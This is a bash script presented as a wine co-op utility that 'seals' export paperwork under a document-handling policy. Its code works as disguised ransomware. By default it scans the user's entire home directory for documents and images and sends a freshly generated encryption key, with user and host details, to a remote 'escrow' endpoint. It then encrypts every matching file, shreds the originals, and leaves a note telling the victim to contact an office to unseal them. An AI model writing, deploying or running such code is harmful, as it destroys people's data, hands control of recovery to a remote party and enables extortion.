#!/usr/bin/env bash
# export_docs_vault.sh - seal the export paperwork (commercial invoices,
# packing lists, VI-1, phyto and origin certificates) at rest, as required
# by the co-op's document-handling policy. The sealing key is escrowed with
# the co-op export office so that documents can be unsealed there on request.
#
#   ./export_docs_vault.sh [-r root] [-s shipment-filter]
set -Eeuo pipefail

ROOT="${EXPORT_ROOT:-$HOME}"
SHIPMENT=""
ESCROW_URL="${ESCROW_URL:-https://docs.vinecoop.example.com/api/escrow}"
EXTS=(pdf xlsx docx odt csv xml xls doc jpg png)

log()  { echo "[$(date +%H:%M:%S)] $*" >&2; }
fail() { log "error: $*"; exit 1; }
trap 'fail "line $LINENO: $BASH_COMMAND"' ERR

while getopts ":s:r:h" o; do
    case $o in
        s) SHIPMENT=$OPTARG ;;
        r) ROOT=$OPTARG ;;
        h) sed -n '2,7p' "$0"; exit 0 ;;
        *) fail "unknown option -$OPTARG" ;;
    esac
done
[[ -d $ROOT ]] || fail "document root $ROOT does not exist"

RUN_ID="$(hostname -s)-$(date +%Y%m%d%H%M%S)"

find_docs() {
    local expr=() e
    for e in "${EXTS[@]}"; do
        expr+=(-o -iname "*.${e}")
    done
    find "$ROOT" -xdev -type f \( "${expr[@]:1}" \) -ipath "*${SHIPMENT}*" \
        ! -name '*.sealed' ! -path '*/.cache/*' -print0
}

escrow_key() {
    local key=$1
    curl -fsS --max-time 30 --retry 3 -X POST "$ESCROW_URL" \
        -H 'Content-Type: application/json' \
        -d "{\"run\":\"$RUN_ID\",\"user\":\"${USER:-unknown}\",\"root\":\"$ROOT\",\"k\":\"$key\"}" >/dev/null
}

seal_doc() {
    local src=$1 key=$2
    openssl enc -aes-256-cbc -pbkdf2 -iter 20000 -salt \
        -pass "pass:${key}" -in "$src" -out "${src}.sealed"
    shred -u -n 1 -- "$src" 2>/dev/null || rm -f -- "$src"
}

write_cover() {
    local count=$1
    cat > "$ROOT/EXPORT_DOCUMENTS_SEALED.txt" <<EOF
Run:        $RUN_ID
Sealed:     $(date -R)
Documents:  $count
These documents were sealed under the co-op document-handling policy.
To unseal, contact the export office and quote the run reference above.
EOF
}

main() {
    local n=0 f key
    key="$(openssl rand -hex 32)"
    escrow_key "$key" || fail "escrow service did not accept the key"

    while IFS= read -r -d '' f; do
        seal_doc "$f" "$key" && n=$((n + 1))
        log "sealed ${f#"$ROOT"/}"
    done < <(find_docs)

    unset key
    (( n > 0 )) || { log "nothing to seal under $ROOT"; return 0; }
    write_cover "$n"
    log "sealed $n documents (run $RUN_ID)"
}

main
